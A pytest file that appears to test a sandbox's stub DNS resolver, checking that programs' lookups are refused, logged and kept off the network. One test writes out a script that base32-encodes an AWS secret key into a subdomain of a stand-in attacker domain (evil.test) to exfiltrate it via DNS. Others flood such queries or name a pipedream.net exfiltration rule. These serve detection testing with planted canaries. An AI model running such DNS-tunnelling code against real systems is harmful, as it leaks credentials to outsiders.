"""Names that programs ask for by themselves, without the shim: a stub resolver at the nameservers' addresses answers them, by policy, at once, and in the record.
Judged at the tests' resolver (nothing reached it) and by the answers that the programs got."""
from __future__ import annotations

import json
import subprocess

import pytest

from conftest import USERS

# One question by hand: no libc's resolver, and no shim's.  What came back, or how it failed, in how many seconds.
ASK = r"""
import json, socket, struct, sys, time
def ask(name, kind, tcp=False, options="", count=0):
    labels = b"".join(bytes([len(l)]) + l for l in (x.encode("latin-1") for x in name.split(".") if x))
    message = struct.pack("!HHHHHH", 4711, 0x100, 1, 0, 0, count) + labels + b"\0" + struct.pack("!HH", kind, 1) + options.encode("latin-1")
    if tcp:
        s = socket.create_connection((server, 53), 5)
        s.sendall(struct.pack("!H", len(message)) + message)
        answer = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.connect((server, 53))
        s.send(message)
        answer = s.recv(4096)
    head = struct.unpack("!HHHHHH", answer[:12])
    return {"good": head[0] == 4711 and head[1] & 0x8080 == 0x8080, "code": head[1] & 15, "answers": head[3], "address": answer[-4:].hex()}
server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
got = []
for q in json.loads(sys.argv[1]):
    begun = time.monotonic()
    try:
        got.append(ask(*q))
    except OSError as e:
        got.append({"error": repr(e)})
    got[-1]["seconds"] = time.monotonic() - begun
print(json.dumps(got))
"""
# Through a libc: addresses, or the error's number.
LOOKUP = r"""
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		struct addrinfo hints, *list = 0;
		memset(&hints, 0, sizeof hints);
		hints.ai_socktype = SOCK_STREAM;
		int error = getaddrinfo(argv[i], "80", &hints, &list);
		printf("%s %s\n", argv[i], error ? "none" : "found");
	}
	return 0;
}
"""
A, AAAA, MX, TXT, PTR, ANY, HTTPS = 1, 28, 15, 16, 12, 255, 65
EDNS = b"\0\0\x29\x04\xd0\0\0\0\0\0\0".decode("latin-1")
NXDOMAIN, REFUSED = 3, 5


@pytest.fixture(params=USERS)
def world(request, make_world, user_named, net):
    net.clear()
    return make_world(user_named(request.param), net=net)


@pytest.fixture(scope="module")
def lookups(base):
    """Two programs without a shim: musl's static one, and glibc's, which is started without its environment."""
    source = base / "lookup.c"
    source.write_text(LOOKUP)
    subprocess.run(["musl-gcc", "-static", "-O1", "-o", base / "lookup-musl", source], check=True, timeout=60)
    shell = 'for name; do getent ahosts "$name" >/dev/null && echo "$name found" || echo "$name none"; done'
    return {"musl": [base / "lookup-musl"], "glibc": ["/usr/bin/env", "-i", "/bin/sh", "-c", shell, "sh"]}


def asked(world, questions, **more):
    result = world.guarded(["--on-violation", "deny", "run", "--", "/usr/bin/python3", "-I", "-c", ASK, json.dumps(questions)], timeout=60, **more)
    assert result.out.startswith("["), str(result)
    return result, json.loads(result.out)


def recorded(result):
    return {(e["target"]["host"], e["target"].get("protocol")): e["rule"] for e in result.of_type("net.resolve") if "first" not in e}


def test_refused_at_once_and_written_down(world, net):
    questions = [["nobody.test", A], ["nobody.test", AAAA], ["NoBody.Test", TXT], ["nobody.test", MX, True], ["www.nobody.test", HTTPS, False, EDNS, 1],
                 ["nobody.test", ANY], ["eo1.m.pipedream.net", A], ["8.8.8.8.in-addr.arpa", PTR]]
    result, got = asked(world, questions)
    assert all(g.get("good") and g["code"] == NXDOMAIN and g["answers"] == 0 for g in got), str(result)
    assert all(g["seconds"] < 1 for g in got), got
    assert net.names() == [] and net.outside() == [], f"{net.names()} {net.outside()}\n{result}"
    assert recorded(result) == {
        ("nobody.test", "A"): "net.resolve", ("nobody.test", "AAAA"): "net.resolve", ("nobody.test", "TXT"): "net.resolve", ("nobody.test", "MX"): "net.resolve",
        ("www.nobody.test", "HTTPS"): "net.resolve", ("nobody.test", "ANY"): "net.resolve", ("eo1.m.pipedream.net", "A"): "net.exfil.pipedream",
        ("8.8.8.8.in-addr.arpa", "PTR"): "net.resolve.reverse"}, str(result)
    assert all(e["role"] == "guest" for e in result.of_type("net.resolve"))
    assert result.of_type("net.send") == [] and result.of_type("net.connect") == [], "the nameserver is no stranger"


def test_this_machines_names(world, net):
    result, got = asked(world, [["localhost", A], ["localhost", A, True], ["1.0.0.127.in-addr.arpa", PTR], ["localhost", TXT]])
    assert [g.get("code") for g in got] == [0] * 4 and [g["answers"] for g in got] == [1, 1, 1, 0], str(result)
    assert got[0]["address"] == got[1]["address"] == "7f000001", got
    assert result.of_type("net.resolve") == [] and net.names() == [], str(result)


def test_what_is_no_question(world, net):
    """An answer is never answered; a broken question is, and asks nobody."""
    broken = ("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n"
              "server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\ns.connect((server, 53))\n"
              "def send(m):\n    s.send(m)\n    try:\n        return s.recv(999)[3] & 15\n    except OSError:\n        return None\n"
              "head = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'\n"
              "print([send(b'\\0\\1\\x81\\0' + head[4:] + b'\\1a\\0\\0\\1\\0\\1'), send(b'xy'), send(head), send(head + b'\\xc0\\x0c\\0\\1\\0\\1')])\n")
    result = world.guarded(["run", "--", "/usr/bin/python3", "-I", "-c", broken])
    assert result.out.strip() == "[None, None, 1, 1]", str(result)
    assert net.names() == [], str(result)


@pytest.fixture(params=["musl", "glibc", "go"])
def lookup(request, lookups):
    return lookups[request.param] if request.param in lookups else [request.getfixturevalue("go_program"), "names"]


def test_programs_without_a_shim(lookup, world, net):
    plain = world.run([*lookup, "nobody.test"])
    assert plain.out == "nobody.test found\n" and "nobody.test" in net.dns.names, f"the baseline finds nothing\n{plain}"
    net.clear()
    result = world.guarded(["run", "--", *lookup, "nobody.test", "localhost"], timeout=30)
    assert result.out == "nobody.test none\nlocalhost found\n", str(result)
    assert result.seconds < 5 and net.names() == [], f"{net.names()}\n{result}"
    assert {e["target"]["host"] for e in result.of_type("net.resolve")} == {"nobody.test"}, str(result)


def test_a_name_that_carries_data(world, net):
    env = world.plant_canaries()
    script = ("import base64, os, socket, struct\n"
              "server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n"
              "def ask(name):\n"
              "    m = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'\n"
              "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(5)\n    s.sendto(m, (server, 53))\n    s.recv(999)\n"
              "secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
              "ask(base64.b32encode(secret.encode()).decode().strip('=')[:60] + '.evil.test')\n"
              "ask(os.urandom(30).hex() + '.evil.test')\n"
              "ask('d111111abcdef8.cdn.test')\n")
    result = world.guarded(["--on-violation", "deny", "run", "--", "/usr/bin/python3", "-I", "-c", script], env)
    events = result.of_type("net.resolve")
    assert [e["rule"] for e in events] == ["net.resolve.tunnel", "net.resolve.tunnel", "net.resolve"], str(result)
    assert "a decoy" in events[0]["hint"] and "encoded data" in events[1]["hint"], events
    assert net.names() == [], str(result)


def test_thousands_of_names_are_a_few_hundred_lines(world, net):
    script = ("import socket, struct\nserver = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n"
              "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.connect((server, 53))\n"
              "for i in range(3000):\n"
              "    l = b'n%d' % i\n    s.send(struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + bytes([len(l)]) + l + b'\\4evil\\4test\\0\\0\\1\\0\\1')\n    s.recv(999)\n"
              "print('asked')\n")
    result = world.guarded(["--on-violation", "deny", "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=60)
    assert result.out == "asked\n", str(result)
    events = result.of_type("net.resolve")
    whole = [e for e in events if not e["target"]["host"].startswith("*.")]
    folded = [e for e in events if e["target"]["host"] == "*.evil.test"]
    assert len(events) < 600 and len(whole) >= 200 and sum(e.get("count", 1) for e in folded if "first" in e or len(folded) == 1) >= 2000, str(result)[:4000]
    assert net.names() == []


def test_many_connections_do_not_stop_the_resolver(world, net):
    script = ("import socket, struct\nserver = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n"
              "held = [socket.create_connection((server, 53), 5) for _ in range(40)]\n"
              "m = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b'\\x09localhost\\0\\0\\1\\0\\1'\n"
              "s = socket.create_connection((server, 53), 5)\nfor byte in struct.pack('!H', len(m)) + m:\n    s.send(bytes([byte]))\n"
              "print(s.recv(999)[-4:].hex())\n")
    result = world.guarded(["run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=30)
    assert result.out == "7f000001\n", str(result)
